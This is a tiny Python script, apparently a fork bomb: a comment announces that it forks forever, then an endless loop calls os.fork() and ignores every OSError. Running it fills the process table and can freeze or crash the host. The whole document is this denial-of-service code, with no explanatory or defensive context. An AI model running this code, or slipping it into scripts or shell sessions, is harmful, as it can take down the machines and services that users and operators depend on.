# Forks for ever, and takes no error for an answer.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
